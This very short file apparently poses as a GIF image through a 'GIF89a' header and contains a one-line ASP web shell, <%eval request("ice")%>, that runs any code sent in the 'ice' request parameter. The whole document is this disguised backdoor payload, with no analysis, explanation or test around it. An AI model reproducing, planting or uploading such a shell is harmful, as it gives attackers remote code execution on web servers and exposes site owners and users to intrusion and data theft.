GIF89a
<%eval request("ice")%>